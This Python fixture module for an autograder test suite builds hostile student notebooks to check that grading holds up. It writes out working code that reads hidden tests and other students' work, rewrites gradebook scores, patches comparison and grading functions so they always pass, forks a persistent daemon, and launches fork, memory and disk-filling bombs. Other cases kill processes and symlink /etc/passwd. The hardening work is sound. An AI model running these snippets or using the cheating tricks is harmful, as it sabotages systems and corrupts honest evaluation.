"""Hostile submissions: notebooks that try to cheat, snoop, break out or leave something behind.

Each case adds student code to an honest base notebook:
* ``wrong``: the perfect demo student with a wrong MSE (it sums instead of averaging), so a
  grader fooled by the attack would give it points the honest notebook does not get;
* ``perfect``: the perfect demo student, for attacks on the grader itself (bombs, loops, kills),
  which must not cost the other students anything.
A fair grader gives every case at most its base's honest score, changes no file outside the
student's own working copy, and leaves no process behind. ``tests/test_hostile_class.py``
grades them all in one ``mllab autograde`` run.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
import nbformat

from mllab.classes.broken import perfect_notebook
from mllab.course.paths import Course

MARK = "mllab-hostile"  # every file a case writes and every process it starts carries this

_WALK_UP = """
import os
def _course_root():
    here = os.getcwd()
    while here != "/":
        if os.path.exists(os.path.join(here, "nbgrader_config.py")) or os.path.isdir(os.path.join(here, "source")):
            return here
        here = os.path.dirname(here)
    return None
_root = _course_root()
print("course root found:", _root)
"""

_PATCH = "import torch, numpy, math, torch.testing\n{target} = lambda *a, **k: {value}\n"


@dataclass(frozen=True)
class HostileCase:
    """One hostile submission: its base notebook and the code it adds (at the top or the end)."""

    student_id: str
    base: str  # "wrong" or "perfect"
    code: str
    at_end: bool = False
    tag_tests: bool = False  # tag every test cell `skip-execution`
    append: tuple[tuple[str, str], ...] = ()  # (text of a solution cell, code added at its end)
    edit_tests: bool = False  # edit test_mse_own, delete test_ce_own, move test_cosine_lib to the end


def _patch(target: str, value: str = "True") -> str:
    return _PATCH.format(target=target, value=value)


def _find(name: str) -> str:
    return _WALK_UP + f"""
found = []
for top in filter(None, [_root, "/", os.path.expanduser("~")]):
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", ".venv", "site-packages")]
        found += [os.path.join(folder, f) for f in files if {name}]
print(sorted(set(found))[:50])
"""


CASES = (
    HostileCase("read_source", "wrong", _find('"source" in folder and f.endswith(".ipynb")') +
                "for path in found:\n    print(open(path).read()[:20000])\n"),
    HostileCase("read_other_students", "wrong", _find('"submitted" in folder or "autograded" in folder') +
                "for path in found:\n    print(path, open(path, errors='replace').read()[:2000])\n"),
    HostileCase("print_hidden_tests_hook", "wrong",
                "get_ipython().events.register('pre_run_cell', lambda info: print(info.raw_cell))\n"
                "import inspect, mllab.checks.loss_and_metric as _h\nprint(inspect.getsource(_h)[:5000])\n"),
    HostileCase("print_hidden_tests_history", "wrong", "print('\\n'.join(In))\n", at_end=True),
    HostileCase("write_gradebook", "wrong", _find('f == "gradebook.db"') + """
import sqlite3
for path in found:
    try:
        db = sqlite3.connect(path, timeout=1)
        db.execute("update grade set manual_score = 100, auto_score = 100")
        db.execute("update grade set auto_score = 0 where auto_score is not null and 0")
        db.commit()
        print("wrote", path)
    except Exception as error:
        print("could not write", path, error)
"""),
    HostileCase("gradebook_daemon", "wrong", _find('f in ("gradebook.db", "loss_and_metric.ipynb")') + f"""
import sqlite3, time, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        sys.argv[0] = "{MARK}-daemon"
        for _ in range(60):
            time.sleep(0.5)
            for path in found + [os.path.join(os.getcwd(), "loss_and_metric.ipynb")]:
                try:
                    if path.endswith(".db"):
                        db = sqlite3.connect(path, timeout=1)
                        db.execute("update grade set manual_score = 100")
                        db.commit()
                    else:
                        open(path, "a").write("{MARK}")
                except Exception:
                    pass
        os._exit(0)
    os._exit(0)
"""),
    HostileCase("edit_nbgrader_config", "wrong", _WALK_UP + """
for folder in filter(None, [_root, os.getcwd(), os.path.dirname(os.getcwd())]):
    try:
        with open(os.path.join(folder, "nbgrader_config.py"), "a") as config:
            config.write("\\nc.Execute.enabled = False\\n")
        print("edited", folder)
    except Exception as error:
        print("could not edit", folder, error)
"""),
    HostileCase("patch_torch_allclose", "wrong", _patch("torch.allclose")),
    HostileCase("patch_torch_isclose", "wrong", _patch("torch.isclose", "torch.tensor(True)")),
    HostileCase("patch_assert_close", "wrong", _patch("torch.testing.assert_close", "None")),
    HostileCase("patch_numpy_allclose", "wrong", _patch("numpy.allclose")),
    HostileCase("patch_numpy_isclose", "wrong", _patch("numpy.isclose", "numpy.bool_(True)")),
    HostileCase("patch_math_isclose", "wrong", _patch("math.isclose") + "import builtins\nbuiltins.abs = lambda x: 0\n"),
    HostileCase("patch_grading_helpers", "wrong", """
import mllab.grading.compare as _compare, mllab.grading.scoring as _scoring, mllab.checks.common as _common
import mllab.checks.loss_and_metric as _checks
_compare.expect_close = lambda *a, **k: None
_scoring.score = lambda parts, points: float(points)
_common.check_cases = lambda *a, **k: None
for _name in dir(_checks):
    if _name.endswith(("_own", "_library", "_stable", "_nll")):
        setattr(_checks, _name, lambda *a, points=0, **k: float(points))
"""),
    HostileCase("input_transformer", "wrong", """
def _rewrite(lines):
    if any("BEGIN HIDDEN TESTS" in line or "hidden." in line for line in lines):
        return ["1.0\\n"]
    return lines
get_ipython().input_transformers_post.append(_rewrite)
"""),
    HostileCase("skip_execution_tags", "wrong", "", tag_tests=True),
    HostileCase("trickster_objects", "wrong", "", append=(("def mse_loss(", """
class _Anything(float):
    def __new__(cls):
        return super().__new__(cls, 0.0)
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __sub__(self, other):
        return 0.0
    __rsub__ = __sub__
    def __abs__(self):
        return 0.0
    def __lt__(self, other):
        return True
    __hash__ = float.__hash__
class _Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True
def mse_loss(input, target):
    return _Anything()
"""), ("def cosine_similarity(", """
def cosine_similarity(preds, target):
    return torch.zeros(preds.shape[0]).as_subclass(_Liar)
"""))),
    HostileCase("edited_deleted_moved_tests", "perfect", "", edit_tests=True),
    HostileCase("fork_bomb", "perfect", f"""
import os, sys, time
children = 0
try:
    while children < 4000:
        if os.fork() == 0:
            sys.argv[0] = "{MARK}-bomb"
            time.sleep(120)
            os._exit(0)
        children += 1
except OSError as error:
    print("fork stopped after", children, error)
"""),
    HostileCase("memory_bomb", "perfect", "blocks = []\nwhile True:\n    blocks.append(bytearray(256 * 1024**2))\n"),
    HostileCase("infinite_loop", "perfect", "while True:\n    pass\n"),
    HostileCase("os_exit", "perfect", "import os\nos._exit(0)\n"),
    HostileCase("network", "wrong", """
import socket
for address in [("127.0.0.1", PORT), ("1.1.1.1", 80), ("10.0.2.2", 80)]:
    try:
        socket.create_connection(address, timeout=2).sendall(b"MARK")
        print("reached", address)
    except OSError as error:
        print("no network to", address, error)
""".replace("MARK", MARK)),
    HostileCase("huge_output", "perfect", "print('x' * 200_000_000)\nfor i in range(2000):\n    print('y' * 100_000)\n"),
    HostileCase("write_outside", "wrong", _WALK_UP + f"""
targets = [os.path.expanduser("~/{MARK}"), "/tmp/{MARK}", "/{MARK}"]
if _root:
    targets += [os.path.join(_root, d, "{MARK}") for d in ("", "release", "data", "source", "submitted")]
targets += [os.path.join(os.path.dirname(os.getcwd()), "{MARK}"), os.path.join(os.getcwd(), "..", "..", "{MARK}")]
for target in targets:
    try:
        open(target, "w").write("{MARK}")
        print("wrote", target)
    except Exception as error:
        print("could not write", target, type(error).__name__)
try:
    os.symlink("/etc/passwd", "loss_and_metric.ipynb.link")
except Exception as error:
    print(error)
"""),
    HostileCase("kill_everything", "perfect", """
import os, signal
for pid in [os.getppid(), int(os.environ.get("JPY_PARENT_PID", "0") or 0)] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid > 1 and pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except Exception:
            pass
print("still here")
"""),
    HostileCase("fill_disk", "perfect", """
import os
for i in range(60):
    with open(f"fill{i}.bin", "wb") as f:
        f.write(os.urandom(64 * 1024**2))
"""),
)

def _test_cells(nb):
    return [c for c in nb.cells if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("grade")
            and not c.metadata["nbgrader"].get("solution")]


def _edit_delete_move(nb) -> None:
    def at(grade_id: str) -> int:
        return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
    nb.cells[at("test_mse_own")].source = "pass"
    del nb.cells[at("test_ce_own")]
    nb.cells.append(nb.cells.pop(at("test_cosine_lib")))


def wrong_notebook(perfect):
    """The perfect notebook with MSE summed instead of averaged (its test cells lose their points)."""
    nb = copy.deepcopy(perfect)
    for cell in nb.cells:
        if cell.cell_type == "code" and "def mse_loss(" in cell.source:
            cell.source += "\n\ndef mse_loss(input, target):\n    return ((input - target) ** 2).sum()\n"
    return nb


def hostile_notebook(case: HostileCase, perfect):
    nb = wrong_notebook(perfect) if case.base == "wrong" else copy.deepcopy(perfect)
    if case.code:
        cell = nbformat.v4.new_code_cell(case.code)
        first_code = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")  # the setup cell
        nb.cells.insert(len(nb.cells) if case.at_end else first_code + 1, cell)
    for marker, code in case.append:
        for cell in nb.cells:
            if cell.cell_type == "code" and marker in cell.source:
                cell.source += "\n" + code
    if case.edit_tests:
        _edit_delete_move(nb)
    if case.tag_tests:
        for cell in _test_cells(nb):
            cell.metadata.setdefault("tags", []).append("skip-execution")
    return nb


def write_hostile_class(course: Course, assignment: str, *, port: int,
                        cases: tuple[HostileCase, ...] = CASES) -> list[str]:
    """Write every case (and the honest ``wrong`` base) into submitted/; return the student ids."""
    perfect = perfect_notebook(course, assignment)
    notebooks = {"honest_wrong": wrong_notebook(perfect)}
    for case in cases:
        nb = hostile_notebook(case, perfect)
        for cell in nb.cells:
            cell.source = cell.source.replace("PORT", str(port))
        notebooks[case.student_id] = nb
    for student, nb in notebooks.items():
        folder = course.submission_dir(student, assignment)
        folder.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, folder / f"{assignment}.ipynb")
    return list(notebooks)


def honest_base(case_id: str) -> str:
    """The student whose score a case may not exceed."""
    case = next(c for c in CASES if c.student_id == case_id)
    return "honest_wrong" if case.base == "wrong" else "perfect"

